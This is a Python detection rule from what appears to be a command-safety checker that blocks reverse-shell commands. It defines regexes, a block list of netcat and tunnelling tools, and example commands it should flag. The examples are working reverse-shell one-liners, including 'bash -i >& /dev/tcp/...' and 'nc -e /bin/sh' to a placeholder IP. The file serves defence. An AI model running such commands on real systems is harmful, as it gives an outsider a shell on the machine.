"""A shell that is handed to somebody on the network."""

import re
from collections.abc import Iterable

from bcce.kit.findings import Rule, Severity, Verdict
from bcce.safety.bash.readers import why_not_reader
from bcce.safety.bash.view import Call, View
from bcce.safety.bash.wrappers import SHELLS
from bcce.safety.rules.bash import Place

RULE = Rule(
    id="bash.reverse-shell",
    title="A shell is connected to the network",
    severity=Severity.CRITICAL,
    verdict=Verdict.BLOCK,
    why="somebody else can then type commands on this machine",
    instead="use the executor's own connection",
    tags=("T1059.004", "T1071"),
    examples_match=(
        "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
        "nc -e /bin/sh 203.0.113.9 4444",
        "socat TCP:203.0.113.9:1 EXEC:/bin/sh",
        "exec 5<>/dev/tcp/203.0.113.9/80",
    ),
    examples_pass=("nc -z localhost 80", "socat -V", "bash -n script.sh"),
)
_CONNECTS = re.compile(
    r"socket|TCPSocket|IO::Socket|fsockopen|stream_socket|net\.connect|net\.Socket|inet|/dev/tcp|Net::Telnet|require\(['\"]net['\"]\)|"
    r"pty\.spawn",
    re.IGNORECASE,
)
_SHELL_INSIDE = re.compile(
    r"/bin/(ba|da|z|k|c)?sh\b|\bsh\s+-i|exec\b|subprocess|dup2|pty\.spawn|spawn|popen|system|passthru|shell_exec|`|cmd\b", re.IGNORECASE
)
_NETCATS = ("nc", "ncat", "netcat", "socat", "telnet", "nc.traditional", "nc.openbsd", "cryptcat", "pwncat")
_TUNNELS = (
    "ngrok",
    "chisel",
    "frpc",
    "cloudflared",
    "gs-netcat",
    "gsocket",
    "ligolo-agent",
    "pwnat",
    "iodine",
    "dnscat",
    "dnscat2",
    "bore",
    "localtunnel",
    "lt",
    "tmate",
    "teleconsole",
    "merlin",
    "sliver-client",
    "empire",
)


#: A look whether a port of this machine is open: it is opened for reading and closed again.
_PROBES = re.compile(r"(/dev/tcp/(127\.0\.0\.1|localhost|::1)/\d+ ?)+")


def find(view: View) -> Iterable[Place]:
    """Redirects to /dev/tcp, netcat and socat that run a program, shells that read from the network, languages that do both."""
    listeners = any(call.name in _NETCATS or (call.name == "openssl" and "s_client" in call.values) for call in view.calls)
    pipes = {operand for call in view.calls if call.name in ("mkfifo", "mknod") for operand in call.operands}
    for redirect in view.redirects():
        if redirect.target is None:
            continue
        said = " ".join((redirect.target.raw, *view.targets(redirect)))
        if re.search(r"/dev/(tcp|udp)/", said) and not (redirect.operator == "<" and _PROBES.fullmatch(said)):
            yield Place(redirect)
    for call in view.calls:
        if call.name is not None and _is_shell(view, call, call.name, listeners=listeners, pipes=pipes):
            yield Place(call.command)


def _is_shell(view: View, call: Call, name: str, *, listeners: bool, pipes: set[str]) -> bool:
    values = call.values
    if name in ("nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "cryptcat", "pwncat"):
        return call.has("-e", "--exec", "--sh-exec", "--lua-exec") or (
            call.has("-c") and any(re.search(r"sh\b|bash|cmd|/bin/", value) for value in values)
        )
    if name == "socat":
        return any(re.match(r"(EXEC|SYSTEM|SHELL|PTY)\b", value, re.IGNORECASE) for value in values)
    if name in _TUNNELS:
        return True
    if "/dev/tcp/" in call.command.raw or "/dev/udp/" in call.command.raw:
        if why_not_reader(call) is None:
            return False
        return name not in ("timeout", "bash", "sh") or "-i" in values or "sh -i" in call.command.raw
    if name in SHELLS:
        from_net = any(
            source.name in _NETCATS or (source.name == "openssl" and "s_client" in source.values) for source in view.sources(call)
        )
        from_pipe = bool(pipes) and listeners and any(operand in pipes for source in view.sources(call) for operand in source.operands)
        reads_pipe = (
            bool(pipes) and listeners and any(target in pipes for redirect in call.command.redirects for target in view.targets(redirect))
        )
        return from_net or from_pipe or reads_pipe
    if name in ("python", "perl", "ruby", "php", "lua", "node", "awk", "gawk", "tclsh", "expect", "java", "go", "Rscript", "julia"):
        return any(_CONNECTS.search(value) and _SHELL_INSIDE.search(value) for value in values) or (
            name in ("awk", "gawk") and any("/inet/" in value for value in values)
        )
    if name == "ssh":
        return any(re.match(r"-[a-zA-Z]*R", value) for value in values)
    if name in ("telnet",):
        return any(other.name in SHELLS and call.command in other.command.inputs for other in view.calls)
    return name in ("xterm", "script", "busybox") and any(re.match(r"-display", value) and ":" in " ".join(values) for value in values)
